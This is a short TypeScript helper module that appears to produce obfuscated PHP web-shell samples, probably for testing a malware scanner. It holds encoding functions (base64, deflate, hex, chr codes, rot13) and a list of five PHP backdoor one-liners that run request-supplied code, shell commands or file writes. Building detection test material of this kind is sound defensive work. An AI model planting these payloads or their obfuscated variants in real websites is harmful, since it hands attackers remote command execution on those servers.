import { deflateRawSync } from 'node:zlib'

export const base64 = (text: string) => Buffer.from(text).toString('base64')
export const deflated = (text: string) => deflateRawSync(text).toString('base64')
export const hex = (text: string) =>
  text
    .split('')
    .map(c => `\\x${c.charCodeAt(0).toString(16)}`)
    .join('')
export const codes = (text: string) =>
  text
    .split('')
    .map(c => `chr(${c.charCodeAt(0)})`)
    .join('.')
export const reversed = (text: string) => text.split('').toReversed().join('')
export const rot13 = (text: string) =>
  text.replace(/[a-z]/gi, c => String.fromCharCode(c.charCodeAt(0) + (c.toLowerCase() < 'n' ? 13 : -13)))
export const php = (code: string) => `<?php\n${code}\n`
export const PAYLOADS = [
  'eval($_POST["x"]);',
  'system($_GET[0]);',
  '$f = $_REQUEST["f"]; $f($_REQUEST["a"]);',
  'passthru(base64_decode($_COOKIE["c"]));',
  'file_put_contents($_POST["n"], $_POST["d"]);',
]
